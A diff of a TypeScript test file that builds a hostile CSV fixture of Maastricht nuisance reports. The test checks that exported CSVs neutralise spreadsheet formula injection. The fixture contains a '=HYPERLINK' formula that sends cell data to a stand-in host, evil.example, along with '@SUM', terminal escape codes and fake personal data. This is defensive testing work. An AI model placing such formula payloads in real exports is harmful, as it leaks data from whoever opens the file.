@@ -22,16 +22,44 @@ function hostileCsv(): string {
   const evilStreet = '=HYPERLINK("http://evil.example/?"&A1,"klik")';
   for (let i = 0; i < 40; i++) {
     const week = String(1 + (i % 20)).padStart(2, '0');
-    const text = i === 0 ? `geheime-tekst ${'x'.repeat(100_000)}` : `Piet Pietersen deals drugs, BSN 123456782, bel 0612345678 \u0007\u001b[31m`;
+    const text =
+      i === 0 ? `geheime-tekst ${'x'.repeat(100_000)}` : `Piet Pietersen deals drugs, BSN 123456782, bel 0612345678 \u0007\u001b[31m`;
     const street = i % 3 !== 0 ? evilStreet : '@SUM(1+1)\u001b[2J';
-    rows.push([`H-${i}`, `2026-${week === '00' ? '01' : '0' + (1 + (i % 9))}-${String(1 + (i % 27)).padStart(2, '0')} 22:${String(i % 60).padStart(2, '0')}`,
-      i % 3 === 0 ? '-Drugsoverlast' : '+Jongerenoverlast', q(text), String(176000 + (i % 7) * 3), String(317000 + (i % 5) * 3),
-      q(street), i % 4 === 0 ? '12' : '', i % 4 === 0 ? '6211AB' : '', 'Maastricht', 'BU09350000',
-      i % 5 === 0 ? 'jan.jansen@example.nl' : `melder${i}@example.nl`].join(','));
+    rows.push(
+      [
+        `H-${i}`,
+        `2026-${week === '00' ? '01' : `0${1 + (i % 9)}`}-${String(1 + (i % 27)).padStart(2, '0')} 22:${String(i % 60).padStart(2, '0')}`,
+        i % 3 === 0 ? '-Drugsoverlast' : '+Jongerenoverlast',
+        q(text),
+        String(176000 + (i % 7) * 3),
+        String(317000 + (i % 5) * 3),
+        q(street),
+        i % 4 === 0 ? '12' : '',
+        i % 4 === 0 ? '6211AB' : '',
+        'Maastricht',
+        'BU09350000',
+        i % 5 === 0 ? 'jan.jansen@example.nl' : `melder${i}@example.nl`,
+      ].join(','),
+    );
   }
   // A dwelling with a formula in its street, reported by neighbours.
   for (let i = 0; i < 8; i++) {
-    rows.push([`W-${i}`, `2026-0${1 + i}-10 21:00`, 'Woonoverlast', '"bewoner dreigt"', '177000', '318000', '"-2+3 Kerkstraat"', '5', '6221AB', 'Maastricht', 'BU09350006', `buur${i % 3}@example.nl`].join(','));
+    rows.push(
+      [
+        `W-${i}`,
+        `2026-0${1 + i}-10 21:00`,
+        'Woonoverlast',
+        '"bewoner dreigt"',
+        '177000',
+        '318000',
+        '"-2+3 Kerkstraat"',
+        '5',
+        '6221AB',
+        'Maastricht',
+        'BU09350006',
+        `buur${i % 3}@example.nl`,
+      ].join(','),
+    );
   }
   return `${rows.join('\n')}\n`;
 }
@@ -83,10 +111,11 @@ describe('hostile input', () => {
     for (const f of csvs) {
       const text = readFileSync(f, 'utf8').replace(/^\uFEFF/, '');
       const rows: string[][] = parse(text, { delimiter: f.includes('teams') ? ';' : ',', relax_column_count: true });
-      for (const row of rows) for (const cell of row) {
-        checked++;
-        if (FORMULA.test(cell)) expect(NUMBER.test(cell), `${f}: ${cell}`).toBe(true);
-      }
+      for (const row of rows)
+        for (const cell of row) {
+          checked++;
+          if (FORMULA.test(cell)) expect(NUMBER.test(cell), `${f}: ${cell}`).toBe(true);
+        }
     }
     expect(checked).toBeGreaterThan(100);
     expect(readFileSync(join(out, 'hotspots.csv'), 'utf8')).toContain(`'=HYPERLINK`);
